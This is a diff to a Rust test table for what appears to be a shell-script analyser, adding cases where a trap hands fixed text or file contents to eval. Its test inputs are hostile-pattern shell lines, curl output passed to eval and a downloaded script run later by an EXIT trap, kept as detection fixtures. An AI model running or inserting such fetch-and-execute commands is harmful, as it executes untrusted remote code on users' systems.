@@ -479,7 +479,9 @@ const CASES: &[(&str, &str)] = &[
     ("trap 'eval \"$x\"' EXIT; g(){ x=$(curl -s https://x/v); }; g", "0054"),
     ("x=$(curl -s https://x/v); echo \"$x\"; f(){ y=abc; eval \"$y\"; }; trap f EXIT", "0044"),
     ("e(){ eval \"$x\"; }; trap e EXIT; trap 'x=$(curl -s https://x/v)' INT", "0054"),
-    ("f(){ eval \"$1\"; }; g(){ f \"$@\"; }; trap 'g \"echo hi\"' EXIT", "0005"),
+    // (Only the trap calls `g`, and it gives it known text: `f` runs `echo hi`.)
+    ("f(){ eval \"$1\"; }; g(){ f \"$@\"; }; trap 'g \"echo hi\"' EXIT", "0004"),
+    ("f(){ eval \"$1\"; }; g(){ f \"$@\"; }; trap 'g \"$(cat y)\"' EXIT", "0005"),
     // A file saved from the network and run later: by a trap, past the calls the walk
     // follows, or where the directory is not known.
     ("curl -so i.sh https://x/i; trap \"bash ./i.sh\" EXIT", "0056"),
